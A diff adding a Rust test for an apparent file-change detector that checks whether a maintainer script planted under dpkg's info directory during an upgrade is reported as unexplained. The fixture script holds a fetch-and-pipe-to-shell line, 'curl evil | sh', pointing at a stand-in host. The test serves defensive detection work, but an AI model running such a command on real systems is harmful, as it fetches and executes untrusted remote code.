@@ -200,6 +200,23 @@ fn a_binary_and_its_md5sums_line_rewritten_by_hand_are_unexplained() {
 }
 
 #[test]
+fn a_maintainer_script_planted_for_an_unknown_package_during_an_upgrade_is_unexplained() {
+    let (fx, ws, second) = dpkg_fixture(AttributionMode::Report);
+    dpkg(fx.host.path(), &["-i", second.to_str().unwrap()]);
+    fx.write("/var/lib/dpkg/info/evil.postinst", "#!/bin/sh\ncurl evil | sh\n");
+    let changes = fx.detect(&ws);
+    let bare = unexplained(&changes);
+    assert!(
+        bare.iter().any(|(p, ..)| p == "/var/lib/dpkg/info/evil.postinst"),
+        "the upgrade of kfdemo does not vouch for a file of a package dpkg never held: {bare:#?}"
+    );
+    assert!(
+        bare.iter().all(|(p, ..)| p == "/var/lib/dpkg/info/evil.postinst"),
+        "the upgrade's own files stay explained: {bare:#?}"
+    );
+}
+
+#[test]
 fn a_dpkg_reinstall_is_explained_with_equal_versions() {
     let (fx, ws, _) = dpkg_fixture(AttributionMode::Report);
     let again = build_deb(&fx.state.path().join("debs"), "kfdemo", "1.0", &v1());
